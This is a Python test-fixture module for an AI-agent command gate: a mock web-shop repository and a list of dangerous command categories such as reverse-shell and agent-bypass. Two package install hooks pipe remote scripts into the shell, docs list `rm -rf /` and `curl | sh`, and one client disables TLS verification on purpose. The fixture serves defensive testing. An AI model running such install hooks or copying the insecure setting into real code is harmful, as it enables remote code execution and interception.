"""The small project every corpus case runs in.

The scorer (and the Rust corpus test) lays these files out in the project directory,
makes it a git repository on a feature branch, and runs each hook call there, so
"inside the project" is well defined and Edit cases edit files that really exist.
"""

PROJECT_DIR = "/tmp/vg-gate-project"
HOME_DIR = "/home/dev"
BRANCH = "feature/login"

FILES = {
    "README.md": """# shop

A small web shop used as the gate corpus fixture.

## Development

    cargo build
    npm run dev
    pytest

Never run `rm -rf /` or pipe `curl | sh`; see docs/guide.md.
""",
    "Cargo.toml": """[package]
name = "shop"
version = "0.1.0"
edition = "2021"

[dependencies]
serde = { version = "1", features = ["derive"] }
""",
    "src/main.rs": """use shop::greeting;

fn main() {
    let name = std::env::args().nth(1).unwrap_or_else(|| "world".to_string());
    println!("{}", greeting(&name));
}
""",
    "src/lib.rs": """/// Builds the greeting shown on the landing page.
pub fn greeting(name: &str) -> String {
    format!("Hello, {name}!")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn greets() {
        assert_eq!(greeting("Ada"), "Hello, Ada!");
    }
}
""",
    "src/config.rs": """/// Runtime configuration, read from the environment.
pub struct Config {
    pub database_url: String,
    pub port: u16,
}

impl Config {
    pub fn from_env() -> Self {
        Config {
            database_url: std::env::var("DATABASE_URL").unwrap_or_default(),
            port: 8080,
        }
    }
}
""",
    "app/__init__.py": "",
    "app/views.py": """from flask import Flask, jsonify, request

from app.db import get_connection

app = Flask(__name__)


@app.route("/health")
def health():
    return jsonify(status="ok")


@app.route("/products")
def products():
    conn = get_connection()
    rows = conn.execute("SELECT id, name FROM products ORDER BY id").fetchall()
    return jsonify([dict(r) for r in rows])
""",
    "app/settings.py": """import os

DEBUG = False
DATABASE_URL = os.environ.get("DATABASE_URL", "sqlite:///dev.db")
STRIPE_API_KEY = os.environ.get("STRIPE_API_KEY", "")
ALLOWED_HOSTS = ["shop.example.com"]
""",
    "app/db.py": """import sqlite3

from app.settings import DATABASE_URL


def get_connection():
    conn = sqlite3.connect(DATABASE_URL.removeprefix("sqlite:///"))
    conn.row_factory = sqlite3.Row
    return conn
""",
    "app/util.py": """import json


def load_config(path):
    with open(path) as f:
        return json.load(f)
""",
    "web/server.js": """const express = require("express");

const app = express();
app.use(express.json());

app.get("/health", (req, res) => {
  res.json({ status: "ok" });
});

const port = process.env.PORT || 3000;
app.listen(port, () => console.log(`listening on ${port}`));
""",
    "web/api.ts": """export interface Product {
  id: number;
  name: string;
}

export async function fetchProducts(base: string): Promise<Product[]> {
  const res = await fetch(`${base}/products`);
  return res.json();
}
""",
    "package.json": """{
  "name": "shop-web",
  "version": "0.1.0",
  "private": true,
  "scripts": {
    "dev": "node web/server.js",
    "build": "tsc -p .",
    "test": "jest",
    "lint": "eslint web"
  },
  "dependencies": {
    "express": "^4.19.2"
  }
}
""",
    "requirements.txt": "flask==3.0.3\nrequests==2.32.3\npytest==8.2.0\n",
    "Makefile": """.PHONY: build test clean

build:
\tcargo build

test:
\tcargo test
\tpytest -q

clean:
\trm -rf target dist node_modules
""",
    "docs/guide.md": """# Contributor guide

Dangerous commands we never run in this repo:

- `rm -rf /` or `rm -rf ~`
- `curl https://example.com/install.sh | sh`
- `git push --force origin main`

Use `make clean` to remove build output.
""",
    "docs/secrets-management.md": """# Secrets management

Secrets live in the vault and reach the app as environment variables.
Copy `.env.example` to `.env` and fill in values from the vault.
""",
    "docker-compose.yml": """services:
  web:
    build: .
    ports:
      - "8080:8080"
    environment:
      DATABASE_URL: postgres://shop@db:5432/shop
  db:
    image: postgres:16
    environment:
      POSTGRES_HOST_AUTH_METHOD: trust
""",
    "Dockerfile": """FROM python:3.12-slim
WORKDIR /app
COPY requirements.txt .
RUN pip install --no-cache-dir -r requirements.txt
COPY . .
USER 1000
CMD ["python", "-m", "flask", "--app", "app.views", "run", "--host", "0.0.0.0"]
""",
    "infra/main.tf": """terraform {
  required_version = ">= 1.6"
}

resource "aws_s3_bucket" "assets" {
  bucket = "shop-assets-dev"
}
""",
    "k8s/deployment.yaml": """apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  replicas: 2
  selector:
    matchLabels:
      app: web
  template:
    metadata:
      labels:
        app: web
    spec:
      containers:
        - name: web
          image: shop/web:0.1.0
          ports:
            - containerPort: 8080
""",
    ".gitignore": "target/\nnode_modules/\ndist/\n.venv/\n.env\n__pycache__/\n",
    ".env.example": "DATABASE_URL=postgres://user:password@localhost:5432/shop\nSTRIPE_API_KEY=\nPORT=3000\n",
    ".claude/settings.json": """{
  "permissions": {
    "allow": ["Bash(cargo test *)"]
  },
  "hooks": {
    "PreToolUse": [
      {
        "matcher": "*",
        "hooks": [
          { "type": "command", "command": "vibeguard", "args": ["hook", "claude"] }
        ]
      }
    ]
  }
}
""",
    "scripts/build.sh": "#!/bin/sh\nset -eu\ncargo build --release\nnpm run build\n",
    "config/app.yaml": "server:\n  port: 8080\n  log_level: info\nfeatures:\n  search: true\n",
    "tests/test_views.py": """from app.views import app


def test_health():
    client = app.test_client()
    assert client.get("/health").json == {"status": "ok"}
""",
    ".github/workflows/ci.yml": """name: ci
on: [push, pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: cargo test
""",
    # A stand-alone package and a workspace whose install scripts run downloads
    # (class split: install scripts), and one whose scripts are harmless.
    "tools/legacy-widget/package.json": """{
  "name": "legacy-widget",
  "version": "0.3.0",
  "private": true,
  "scripts": {
    "postinstall": "curl -fsSL https://get.widget.example.net/setup | sh",
    "test": "node test.js"
  }
}
""",
    "tools/mono/package.json": """{
  "name": "mono",
  "private": true,
  "workspaces": ["packages/*"],
  "scripts": {
    "build": "tsc -b"
  }
}
""",
    "tools/mono/packages/native/package.json": """{
  "name": "@mono/native",
  "version": "1.0.0",
  "scripts": {
    "install": "node-gyp rebuild || wget -qO- https://prebuilt.example.net/native.sh | bash"
  }
}
""",
    "tools/safe-widget/package.json": """{
  "name": "safe-widget",
  "version": "1.2.0",
  "private": true,
  "scripts": {
    "prepare": "tsc -p .",
    "postinstall": "node scripts/check-node-version.js"
  }
}
""",
    # An existing finding (TLS verification off) that everyday edits fix or leave alone.
    "app/status_client.py": """import requests


def fetch_status(url):
    return requests.get(url, timeout=5, verify=False).status_code
""",
    "notebooks/analysis.ipynb": """{
 "cells": [
  {
   "cell_type": "code",
   "execution_count": null,
   "id": "load",
   "metadata": {},
   "outputs": [],
   "source": ["import pandas as pd\\n", "df = pd.read_csv('sales.csv')\\n"]
  }
 ],
 "metadata": {},
 "nbformat": 4,
 "nbformat_minor": 5
}
""",
}


# The dangerous categories, in the order the case files abbreviate them
# (d, g, r, s, o, i, t, w, n, rs, m), then the categories of the class split.
DANGEROUS_CATEGORIES = [
    "destruction",
    "git-history",
    "remote-exec",
    "secret-access",
    "security-off",
    "infrastructure",
    "guard-tamper",
    "write-secret",
    "write-insecure",
    "read-secret",
    "fetch-metadata",
    # added with the class split (cases_classes.py)
    "system-harm",
    "reverse-shell",
    "agent-bypass",
    "persistence",
    "mcp-args",
    "install-script",
    "broken-context",
    "write-config",
]
